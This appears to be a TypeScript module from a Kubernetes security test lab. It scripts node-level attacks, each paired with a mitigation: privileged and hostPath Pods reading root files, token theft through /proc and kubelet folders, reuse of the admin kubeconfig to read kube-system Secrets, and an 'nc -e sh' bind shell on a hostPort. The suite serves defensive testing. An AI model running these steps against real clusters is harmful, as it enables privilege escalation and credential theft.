/** How one comes to the node with the right to run Pods, what the node then holds, and how its ports lead in. */
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { isJsonObject, listAt, stringAt } from "@redoubt/kube";
import { ApiClient } from "../api-client.ts";
import { type AttackLab, TOKEN, messageOf, rule } from "../attack-lab.ts";
import { NODE_NAME } from "../node.ts";
import {
  type AttackStep,
  type Outcome,
  type Scene,
  answered,
  createsPod,
  podOf,
  printed,
  victimOf,
} from "./attack-step.ts";
import { mountDisk, noDisk, nodeFolder, tokenPrinted } from "./escape-steps.ts";

const AS_VICTIM = { serviceAccountName: "victim" };
const PRIVILEGED = { securityContext: { privileged: true } };
const ANY_NODE = "node *";
const CREATE_PODS = rule("create", "pods");
const TRACES = { securityContext: { capabilities: { add: ["SYS_PTRACE"] } } };

/** Prints the token of a process of the node in whose environment the lab's name stands, by way of that process's root folder. */
function tokenOfNeighbour({ namespace }: AttackLab): string {
  return [
    "for process in /proc/[0-9]*; do",
    `  if grep -q "NEIGHBOUR=${namespace}/" $process/environ 2>/dev/null; then cat $process/root${TOKEN} 2>/dev/null && exit; fi`,
    "done; echo refused: no such process",
  ].join("\n");
}

const neighbourOf = ({ namespace }: AttackLab): object => ({ env: [{ name: "NEIGHBOUR", value: `${namespace}/` }] });

async function createsRoot(scene: Scene): Promise<Outcome> {
  const { lab } = scene;
  return createsPod(lab, lab.pod("root", mountDisk(scene), {}, PRIVILEGED), () => printed(lab, "root"));
}

export const NODE_STEPS: readonly AttackStep[] = [
  {
    name: "privileged-pod",
    kinds: ["privileged-pod"],
    does: "creates a privileged Pod that mounts the node's disk and reads a file of root",
    mitigation: "the Namespace enforces Pod Security level baseline",
    setup: (mitigated) => ({ rights: [CREATE_PODS], ...(mitigated ? { level: "baseline" } : {}) }),
    walk: ["holds-role", "create-workload", "privileged-pod"],
    to: () => ANY_NODE,
    attempt: createsRoot,
    gets: ({ treasure }) => treasure.text,
    refusal: /^403 .*violates PodSecurity "baseline:latest": privileged/,
    stoppedBy: /^Pod Security level baseline of Namespace privileged-pod-mitigated$/,
    unavailable: noDisk,
  },
  {
    name: "relabel",
    kinds: ["relabel-namespace"],
    does: "takes the Pod Security level off its Namespace, then creates a privileged Pod that reads a file of root",
    mitigation: "no right to change Namespaces",
    setup: (mitigated) => ({
      rights: [CREATE_PODS, rule(mitigated ? "get" : "patch", "namespaces")],
      level: "restricted",
    }),
    walk: ["holds-role", "relabel-namespace"],
    to: () => ANY_NODE,
    attempt: async (scene) => {
      const { lab } = scene;
      const change = { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } };
      const path = `/api/v1/namespaces/${lab.namespace}`;
      const answer = await lab.attacker.send("PATCH", path, change, "application/merge-patch+json");
      if (answer.status !== 200) return { refused: messageOf(answer) };
      const trial = lab.pod("trial", "true", {}, PRIVILEGED);
      await lab.until(async () => (await lab.attacker.post(lab.path("pods?dryRun=All"), trial)).status === 201);
      return createsRoot(scene);
    },
    gets: ({ treasure }) => treasure.text,
    refusal: /^403 .*cannot patch resource "namespaces"/,
    unavailable: noDisk,
  },
  {
    name: "host-path-volume",
    kinds: ["host-path-volume"],
    does: "mounts a folder of the node at Pod Security level baseline, through a PersistentVolume that it creates",
    mitigation: "no right to create PersistentVolumes",
    setup: (mitigated) => ({
      level: "baseline",
      rights: [rule("create", "persistentvolumeclaims pods")],
      clusterRights: [rule(mitigated ? "get" : "create", "persistentvolumes")],
    }),
    // The rights are of two roles together.
    walk: ["host-path-volume"],
    to: () => ANY_NODE,
    attempt: mountByClaim,
    gets: ({ treasure }) => treasure.text,
    refusal: /^403 .*cannot create resource "persistentvolumes"/,
  },
  {
    name: "pods-of-node",
    kinds: ["pods-of-node"],
    does: "as root on the node, reads the token of another Pod through the root folder of its process",
    mitigation: "the other Pod is kept to another node",
    setup: () => ({}),
    stage: async ({ lab, mitigated }) => {
      if (mitigated) await lab.plane.admin.post("/api/v1/nodes", otherNode(lab.namespace));
      const pod = lab.pod(
        "neighbour",
        "sleep 600",
        { ...AS_VICTIM, ...(mitigated ? { nodeName: lab.namespace } : {}) },
        neighbourOf(lab),
      );
      await lab.make("pods", pod);
      if (!mitigated) await lab.until(async () => (await lab.phaseOf("neighbour")) === "Running");
      await lab.start("app", tokenOfNeighbour(lab), { hostPID: true, nodeName: NODE_NAME }, TRACES);
    },
    from: podOf("app"),
    walk: ["host-pid", "pods-of-node", "account-token"],
    to: victimOf,
    attempt: ({ lab }) => tokenPrinted(lab, "app"),
    gets: ({ lab }) => lab.victim,
    refusal: /no such process/,
  },
  {
    name: "pods-beside",
    kinds: ["pods-beside"],
    does: "applies manifests that say nothing of nodes: one Pod traces the node's processes and reads the token of the other",
    mitigation: "the Namespace enforces Pod Security level baseline",
    setup: (mitigated) => ({ rights: [CREATE_PODS], ...(mitigated ? { level: "baseline" } : {}) }),
    manifests: ({ lab, mitigated }) => [
      {
        apiVersion: "v1",
        kind: "Namespace",
        metadata: {
          name: lab.namespace,
          labels: mitigated ? { "pod-security.kubernetes.io/enforce": "baseline" } : {},
        },
      },
      ...besides(lab),
    ],
    from: podOf("app"),
    walk: ["host-pid", "pods-beside", "account-token"],
    to: victimOf,
    attempt: async ({ lab }) => {
      const [neighbour, app] = besides(lab);
      return createsPod(lab, neighbour, async () => {
        await lab.until(async () => (await lab.phaseOf("neighbour")) === "Running");
        return createsPod(lab, app, () => tokenPrinted(lab, "app"));
      });
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*violates PodSecurity "baseline:latest": .*host namespaces/,
    stoppedBy: /^Pod Security level baseline of Namespace pods-beside-mitigated$/,
  },
  {
    name: "node-files",
    kinds: ["node-files"],
    does: "reads the token of another Pod among the files of the kubelet, through a read-only mount",
    mitigation: "no token is mounted into the other Pod",
    setup: () => ({}),
    stage: async ({ lab, mitigated }) => {
      await lab.start("neighbour", "sleep 600", { ...AS_VICTIM, automountServiceAccountToken: !mitigated });
      const { body } = await lab.plane.admin.get(lab.path("pods/neighbour"));
      const uid = stringAt(body, ["metadata", "uid"]) ?? "";
      const { spec, container } = nodeFolder("/", true);
      const tokens = `/node${lab.plane.folder}/kubelet/pods/${uid}/volumes/*projected/*/token`;
      await lab.start("app", `cat ${tokens} 2>&1 || echo refused`, spec, container);
    },
    from: podOf("app"),
    walk: ["host-path-read", "node-files"],
    to: victimOf,
    attempt: ({ lab }) => tokenPrinted(lab, "app"),
    gets: ({ lab }) => lab.victim,
    refusal: /No such file or directory\nrefused/,
  },
  {
    name: "control-plane",
    kinds: ["control-plane-node"],
    does: "reads the administrator's credentials on the node that the control plane runs on, and with them the Secrets of kube-system",
    mitigation: "the Namespace enforces Pod Security level baseline",
    setup: (mitigated) => ({ rights: [CREATE_PODS], ...(mitigated ? { level: "baseline" } : {}) }),
    stage: async ({ lab }) => {
      const labels = { "node-role.kubernetes.io/control-plane": "" };
      const type = "application/merge-patch+json";
      await lab.plane.admin.send("PATCH", `/api/v1/nodes/${NODE_NAME}`, { metadata: { labels } }, type);
    },
    walk: ["holds-role", "create-workload", "privileged-pod", "use-power", "control-plane-node"],
    to: () => "cluster-admin",
    attempt: useAdministratorsKey,
    gets: () => "read",
    refusal: /^403 .*violates PodSecurity "baseline:latest": hostPath volumes/,
  },
  {
    name: "exposed",
    kinds: ["exposed-service"],
    does: "from outside the cluster, has a Pod print its token that serves a shell on a port of its node",
    mitigation: "the Pod has no hostPort",
    setup: () => ({}),
    stage: ({ lab, mitigated }) => {
      const port = { containerPort: 8080, ...(mitigated ? {} : { hostPort: HOST_PORT }) };
      return lab.start("app", "nc -ll -p 8080 -e sh", AS_VICTIM, { ports: [port] });
    },
    from: () => "outside",
    walk: ["exposed-service", "account-token"],
    to: victimOf,
    attempt: fromOutside,
    gets: ({ lab }) => lab.victim,
    refusal: /^ECONNREFUSED$/,
  },
];

/** The mitigated Pod would be reached on the next one, if it were. */
const HOST_PORT = 18_080;

function besides(lab: AttackLab): readonly [neighbour: object, app: object] {
  return [
    lab.pod("neighbour", "sleep 600", AS_VICTIM, neighbourOf(lab)),
    lab.pod("app", tokenOfNeighbour(lab), { hostPID: true }, TRACES),
  ];
}

/** A node that no kubelet stands for: Pods that are bound to it never run, and no others come to it. */
function otherNode(name: string): object {
  return { metadata: { name }, spec: { unschedulable: true } };
}

async function mountByClaim({ lab, treasure }: Scene): Promise<Outcome> {
  const volumeName = `${lab.namespace}-root`;
  const shared = { accessModes: ["ReadWriteOnce"], storageClassName: "" };
  const volume = {
    metadata: { name: volumeName },
    spec: { ...shared, capacity: { storage: "1Mi" }, hostPath: { path: lab.plane.folder } },
  };
  const answer = await lab.attacker.post("/api/v1/persistentvolumes", volume);
  if (answer.status !== 201) return { refused: messageOf(answer) };
  const claim = {
    metadata: { name: "root" },
    spec: { ...shared, volumeName, resources: { requests: { storage: "1Mi" } } },
  };
  await lab.attacker.post(lab.path("persistentvolumeclaims"), claim);
  const phase = async (): Promise<string> =>
    stringAt((await lab.plane.admin.get(lab.path("persistentvolumeclaims/root"))).body, ["status", "phase"]) ?? "";
  await lab.until(async () => (await phase()) === "Bound");
  const volumes = [{ name: "node", persistentVolumeClaim: { claimName: "root" } }];
  const file = treasure.path.slice(lab.plane.folder.length);
  const pod = lab.pod("reader", `cat /node${file}`, { volumes }, nodeFolder("").container);
  return createsPod(lab, pod, () => printed(lab, "reader"));
}

async function useAdministratorsKey({ lab }: Scene): Promise<Outcome> {
  const { plane } = lab;
  const { spec, container } = nodeFolder(plane.folder, true);
  const file = plane.kubeconfig.slice(plane.folder.length);
  return createsPod(lab, lab.pod("reader", `cat /node${file}`, spec, container), async () => {
    const kubeconfig: unknown = JSON.parse(await lab.outputOf("reader"));
    const user = listAt(kubeconfig, ["users"])[0];
    const decoded = (key: string): string =>
      isJsonObject(user) ? Buffer.from(stringAt(user, ["user", key]) ?? "", "base64").toString() : "";
    const client = new ApiClient({
      url: plane.url,
      ca: plane.ca.certificate,
      clientCertificate: { certificate: decoded("client-certificate-data"), key: decoded("client-key-data") },
    });
    const answer = await client.get("/api/v1/namespaces/kube-system/secrets");
    client.close();
    return answered(answer, () => "read");
  });
}

/** Sends a command to the shell that listens, and takes what it prints. */
async function fromOutside({ lab, mitigated }: Scene): Promise<Outcome> {
  const port = HOST_PORT + (mitigated ? 1 : 0);
  const talk = (): Promise<string> =>
    new Promise((resolve) => {
      let text = "";
      const socket = connect({ host: lab.plane.placement.address, port });
      socket.setTimeout(5000, () => socket.destroy());
      socket.on("connect", () => socket.end(`cat ${TOKEN}; exit\n`));
      socket.on("data", (chunk: Buffer) => (text += chunk.toString()));
      socket.on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      socket.on("close", () => resolve(text));
    });
  // The shell listens a moment after the container runs.
  let answer = await talk();
  for (let attempt = 0; attempt < 10 && !answer.startsWith("eyJ"); attempt += 1) {
    await sleep(200);
    answer = await talk();
  }
  return answer.startsWith("eyJ") ? { got: await lab.whoIs(answer) } : { refused: answer };
}
